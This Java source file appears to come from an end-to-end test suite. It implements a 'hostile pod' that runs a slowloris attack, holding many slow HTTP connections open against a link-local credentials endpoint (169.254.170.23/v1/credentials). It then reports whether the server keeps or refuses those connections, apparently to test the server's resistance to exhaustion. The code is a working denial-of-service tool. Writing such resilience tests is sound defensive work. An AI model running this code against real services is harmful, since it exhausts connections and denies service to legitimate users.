package io.iamlet.e2e.node;

import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.atomic.AtomicLong;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * A hostile pod, as its own JVM in a pod's network namespace: for each address given it keeps {@code connections}
 * slow connections open (slowloris), each sending the start of a request and then one more header line a second,
 * never ending the request. A connection the server closes is opened again (a second later when it was closed at
 * once, so a refused pod keeps knocking without spinning).
 *
 * <p>Arguments: {@code connections host:port...}. Commands on stdin, answered as {@value #PREFIX}{@code {json}}
 * lines echoing the command's {@code id}: {@code status} gives, per address, {@code held} (connections open for
 * more than a second, i.e. accepted and kept by the server), {@code closedAtOnce} (closed within a second of opening:
 * refused) and {@code opened}. End of stdin ends it.
 */
public final class SlowlorisPod {

    static final String PREFIX = "SLOWLORIS ";
    private static final JsonMapper JSON = JsonMapper.builder().build();
    private static final byte[] START = "GET /v1/credentials HTTP/1.1\r\nHost: 169.254.170.23\r\n"
            .getBytes(StandardCharsets.ISO_8859_1);
    private static final byte[] TRICKLE = "X-Slow: 1\r\n".getBytes(StandardCharsets.ISO_8859_1);

    /** One address's connections. */
    private record Target(String address, InetSocketAddress socket, AtomicInteger held, AtomicLong closedAtOnce,
                          AtomicLong opened) {
        Map<String, Object> status() {
            Map<String, Object> s = new LinkedHashMap<>();
            s.put("address", address);
            s.put("held", held.get());
            s.put("closedAtOnce", closedAtOnce.get());
            s.put("opened", opened.get());
            return s;
        }
    }

    private SlowlorisPod() {
    }

    public static void main(String[] args) throws Exception {
        int connections = Integer.parseInt(args[0]);
        List<Target> targets = new ArrayList<>();
        for (int i = 1; i < args.length; i++) {
            String[] hostPort = args[i].split(":");
            targets.add(new Target(args[i], new InetSocketAddress(hostPort[0], Integer.parseInt(hostPort[1])),
                    new AtomicInteger(), new AtomicLong(), new AtomicLong()));
        }
        for (Target target : targets) {
            for (int i = 0; i < connections; i++) {
                Thread.ofVirtual().start(() -> holdForever(target));
            }
        }
        print(Map.of("event", "ready"));
        var in = new java.io.BufferedReader(new java.io.InputStreamReader(System.in, StandardCharsets.UTF_8));
        for (String line = in.readLine(); line != null; line = in.readLine()) {
            if (line.isBlank()) {
                continue;
            }
            JsonNode command = JSON.readTree(line);
            Map<String, Object> answer = new LinkedHashMap<>();
            answer.put("id", command.path("id").asString(""));
            answer.put("targets", targets.stream().map(Target::status).toList());
            print(answer);
        }
        System.exit(0);
    }

    private static void holdForever(Target target) {
        while (true) {
            boolean held = false;
            try (Socket socket = new Socket()) {
                socket.connect(target.socket(), 2000);
                target.opened().incrementAndGet();
                socket.setSoTimeout(1000);
                InputStream in = socket.getInputStream();
                OutputStream out = socket.getOutputStream();
                out.write(START);
                out.flush();
                while (true) {
                    try {
                        if (in.read() == -1) {
                            break;
                        }
                    } catch (SocketTimeoutException quiet) {
                        if (!held) {
                            held = true;
                            target.held().incrementAndGet();
                        }
                        out.write(TRICKLE);
                        out.flush();
                    }
                }
            } catch (IOException closed) {
                // reset, broken pipe or connect failure: open it again
            } finally {
                if (held) {
                    target.held().decrementAndGet();
                } else {
                    target.closedAtOnce().incrementAndGet();
                }
            }
            if (!held) {
                try {
                    Thread.sleep(1000);
                } catch (InterruptedException e) {
                    return;
                }
            }
        }
    }

    private static void print(Map<String, Object> answer) {
        String line = PREFIX + JSON.writeValueAsString(answer);
        synchronized (System.out) {
            System.out.println(line);
            System.out.flush();
        }
    }
}
